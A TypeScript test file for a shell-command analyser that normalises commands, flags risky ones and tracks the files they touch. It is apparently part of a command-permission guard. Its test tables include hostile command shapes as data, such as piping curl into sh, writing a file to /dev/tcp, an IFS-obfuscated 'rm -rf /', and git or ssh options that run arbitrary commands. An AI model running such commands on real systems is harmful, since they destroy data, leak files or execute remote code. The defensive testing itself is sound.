/** What the analysis says of single commands: spellings, doubt, writes and touches. */

import { describe, expect, test } from "vitest";
import { analyseShell } from "./analyse.ts";
import type { ShellCommand } from "./analysis.ts";

const HINTS = { clusters: ["-rf", "-D", "--force", "-9"] };

function commands(line: string): readonly ShellCommand[] {
  return analyseShell(line, HINTS).commands;
}

function last(line: string): ShellCommand | undefined {
  return commands(line).at(-1);
}

describe("exact spellings", () => {
  const table: readonly (readonly [string, readonly unknown[]])[] = [
    ["git  status", ["git status"]],
    ["git log --grep='a b'", ["git log --grep='a b'", "git log --grep=a b"]],
    ["A=1 git log", ["A=1 git log"]],
    ["cat src/../x", ["cat src/../x", "cat x"]],
    ["cat ./src//x/", ["cat ./src//x/", "cat ./src/x/"]],
    ["./gradlew build", ["./gradlew build"]],
    ["curl https://a//b", ["curl https://a//b"]],
    ["cd src && cat x", ["cat x", "cat src/x"]],
    ["cd $d && cat x", ["cat x", ["cat ", "/x"]]],
    ["cd a; git status", ["git status"]],
    ["git log $x", ["git log $x", ["git log ", ""]]],
    ["$a -rf", ["$a -rf", ["", " -rf"]]],
    ["/bin/r? x", ["/bin/r? x", ["/bin/r", " x"]]],
    ["echo /t*p", ["echo /t*p"]],
    ["echo {a,b}", ["echo {a,b}", "echo a b"]],
    ["FOO=1", ["FOO=1"]],
    ["> f", ["> f"]],
  ];
  test.each(table)("%s", (line, exact) => expect(last(line)?.exact).toEqual(exact));
});

describe("forms", () => {
  const table: readonly (readonly [string, unknown])[] = [
    ["/bin/rm x", "rm x"],
    ["A=1 rm x", "rm x"],
    ["RM x", "rm x"],
    ["rm -fr x", "rm -rf x"],
    ["rm --recursive y --force", "rm -rf y"],
    ["rm -r ./x/../y -f", "rm -rf y"],
    ["cd src && rm -fr x", "rm -rf src/x"],
    ["git -C d branch -d -f x", "git branch -D x"],
    ["git push -f origin", "git push --force origin"],
    ["git -C d push", "git push"],
    ["kill -s KILL 7", "kill -9 7"],
    ["cd $d; rm x", ["rm ", "/x"]],
    ["frob git push", ["git", " push"]],
    ["rm$IFS-rf$IFS/", "rm -rf /"],
    ["find . -exec rm -rf {} ;", "rm -rf {}"],
  ];
  test.each(table)("%s has %j", (line, form) => {
    const found = commands(line).flatMap(({ exact, forms }) => [...exact, ...forms]);
    expect(found).toContainEqual(form);
  });

  test("are few, whatever the policies ask for", () => {
    const clusters = Array.from({ length: 500 }, (_, index) => `-r${"f".repeat(index + 1)}`);
    const [command] = analyseShell("rm -rf a b", { clusters }).commands;
    expect(command?.forms.length).toBeLessThan(20);
  });

  test("a flag behind `--` is an operand", () => expect(last("rm -r -- -f x")?.forms).not.toContain("rm -rf x"));
});

describe("commands in a line", () => {
  const table: readonly (readonly [string, readonly string[]])[] = [
    ["a; b && c || d | e & f", ["a", "b", "c", "d", "e", "f"]],
    ["echo \"$(a 'b c')\" `d`", ["a 'b c'", "d", "echo \"$(a 'b c')\" `d`"]],
    ["sudo -u x nice a b", ["sudo -u x nice a b", "nice a b", "a b"]],
    ["xargs -n1 a < f", ["xargs -n1 a < f".slice(0, 11), "a {}"]],
    ["sh -c 'a; b' c", ["sh -c 'a; b' c", "a", "b"]],
    ["trap 'a' EXIT", ["trap 'a' EXIT", "a"]],
    ["f() { a; }; f", ["a", "f"]],
    ["cat <<'E'\na\nE", ["cat"]],
    ["cat <<E\n$(a)\nE", ["a", "cat"]],
    ["bash <<E\na\nE", ["bash", "a"]],
    ["echo 'a b' | sh", ["echo 'a b'", "sh", "a b"]],
    ["curl x | sh", ["curl x", "sh", "code that `sh` is given"]],
    ["python -c 'x'", ["python -c 'x'", "code that `python` is given"]],
    ["python x.py", ["python x.py"]],
    ["python <x.py", ["python"]],
    ["# a", []],
    ["[[ -f x ]] && (( 1 ))", []],
    ["sudo --odd a", ["sudo --odd a", "code that `sudo` is given"]],
  ];
  test.each(table)("%s", (line, texts) => expect(commands(line).map(({ text }) => text)).toEqual(texts));

  test("a list of words is one command, taken literally", () => {
    const { commands: found, forms } = analyseShell(["echo", "$(a)", "; b"], HINTS);
    expect(found.map(({ exact }) => exact)).toEqual([["echo $(a) ; b"]]);
    expect(forms).toEqual(["echo $(a) ; b"]);
  });
});

describe("the whole line", () => {
  test("has one blank between words", () =>
    expect(analyseShell("  a  b\t; c \\\n d ", HINTS).forms).toEqual(["a b ; c d"]));
  test("keeps blanks in quotes", () => expect(analyseShell("a  'b  c'", HINTS).forms).toEqual(["a 'b  c'"]));
});

describe("doubt", () => {
  const doubtful = [
    "git -c a.b=c log",
    "git --config-env=a=b log",
    "git config core.sshCommand x",
    "git clone 'ext::sh -c x'",
    "ssh -o ProxyCommand=x host",
    "tar xf a --to-command=x",
    "tar cIf x y z",
    "rsync -e x a b",
    "find . -exec a ;",
    "cat x > /dev/tcp/1.2.3.4/5",
    "for PATH in /tmp; do git log; done",
    "git log \r",
    "git \u200elog",
  ];
  test.each(doubtful)("%j is in doubt", (line) =>
    expect(commands(line).some(({ doubt }) => doubt !== null)).toBe(true),
  );

  const plain = [
    "git switch -c x",
    "git clean -xfd",
    "git commit -m 'a > b; c'",
    "tar xzf a.tgz",
    "find . -name x",
    "ls\tx",
  ];
  test.each(plain)("%j is not", (line) => expect(commands(line).every(({ doubt }) => doubt === null)).toBe(true));
});

describe("writes", () => {
  const table: readonly (readonly [string, readonly unknown[]])[] = [
    ["a > f", ["f"]],
    ["a >> f 2> g", ["f", "g"]],
    ["a &> f", ["f"]],
    ["a >| f", ["f"]],
    ["a >& f", ["f"]],
    ["a <> f", ["f"]],
    ["a {fd}> f", ["f"]],
    ["cd d && a > f", ["d/f"]],
    ["a > $f", [["", ""]]],
    ["a > 'x y'", ["x y"]],
    ["{ a; } > f", ["f"]],
    ["a > /dev/tcp/x/1", ["/dev/tcp/x/1"]],
    ["a > /dev/null 2>&1", []],
    ["a >&2 2>&-", []],
    ["a '>' f", []],
    ["a < f", []],
  ];
  test.each(table)("%s", (line, writes) => expect(last(line)?.writes).toEqual(writes));
});

describe("touches", () => {
  const table: readonly (readonly [string, readonly string[]])[] = [
    ["cat a 'b c'", ["read a", "read b c"]],
    ["grep -n pat f", ["read f"]],
    ["grep -e pat f", ["read f"]],
    ["rm -rf a/../b", ["move b"]],
    ["rm -- -a", ["move -a"]],
    ["mv a b c", ["move a", "move b", "write c"]],
    ["cp -t d a", ["write d", "read a"]],
    ["a | tee -a f", ["write f"]],
    ["sed s/a/b/ f", ["read f"]],
    ["sed -i s/a/b/ f", ["write f"]],
    ["dd if=a of=b", ["read a", "write b"]],
    ["chmod 600 f", ["write f"]],
    ["truncate -s 0 f", ["write f"]],
    ["ln -s a b", ["unknown a", "write b"]],
    ["cd d && rm a", ["move d/a"]],
    ["cd d; rm a", ["move d/a", "move a"]],
    ["builtin cd d && rm a", ["move d/a"]],
    ["(cd d); rm a", ["move a"]],
    ["git -C d rm a", ["move d/a"]],
    ["git diff -- a", ["read a"]],
    ["prog --out=a b", ["unknown a", "unknown b"]],
    ["curl -o f u", ["write f", "unknown u"]],
    ["find d -name x -delete", ["read d", "move d/x"]],
    ["sort -o f f", ["write f", "read f"]],
    ["cat < a > b", ["read a", "write b"]],
    ["echo a", []],
    ["sudo cat a", ["read a"]],
  ];
  test.each(table)("%s", (line, touches) => {
    const found = last(line)?.touches.map(({ use, path }) => `${use} ${String(path)}`);
    expect(found).toEqual(touches);
  });

  test("a pattern stands for the names it matches", () =>
    expect(last("rm pol*.toml")?.touches).toEqual([{ path: "pol*.toml", use: "move" }]));
  test("a loop that moves may be anywhere", () =>
    expect(commands("for d in a; do cd d; rm x; done")[1]?.touches).toContainEqual({ path: ["", "/x"], use: "move" }));
  test("`..` above the home directory is nowhere known", () =>
    expect(last("rm ~/../x")?.touches).toEqual([{ path: ["", ""], use: "move" }]));
});

describe("what is not understood", () => {
  const opaque = [
    "a 'b",
    'a "b',
    "a $(b",
    "if a; then b",
    "a )",
    "fi",
    "a &&",
    "a &&& b",
    "; a",
    "cat <<E\nx",
    "a (b)",
    "$[1]",
  ];
  test.each(opaque)("%j is opaque", (line) => expect(analyseShell(line, HINTS).opaque).not.toBeNull());
  test("says where", () => expect(analyseShell("ls 'x", HINTS).opaque).toMatch(/^no closing quote at \d+ of `ls 'x`$/));
  test("keeps the commands before", () => expect(commands("rm x; 'a").map(({ text }) => text)).toEqual(["rm x"]));
  test("text beyond the limit is opaque", () =>
    expect(analyseShell("a ".repeat(8193), HINTS).opaque).toBe("longer than 16384 characters"));
  test("text at the limit is read", () => expect(analyseShell("a ".repeat(8192), HINTS).opaque).toBeNull());
  test.each(["(", "$(", "`", "{ ", "if ", "sudo ", "eval ", "${a:-", '"$(', "f()", "! ", "[[ ", "sh -c ", "time "])(
    "sixteen thousand units of %j neither throw nor overflow",
    (piece) => expect(() => analyseShell(piece.repeat(16384 / piece.length), HINTS)).not.toThrow(),
  );
});
